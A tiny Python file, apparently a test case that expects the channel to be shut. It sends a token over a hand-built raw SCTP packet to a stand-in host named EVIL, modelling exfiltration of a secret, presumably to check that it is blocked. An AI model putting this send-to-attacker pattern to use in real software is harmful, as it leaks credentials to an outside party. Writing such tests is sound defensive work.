"""
how: SCTP by hand
expect: shut
"""

from land import EVIL
from sockets import raw


def attempt(token):
    return raw(EVIL, 132, b"\x27\x0f" * 2 + b"\0" * 8 + token.encode())
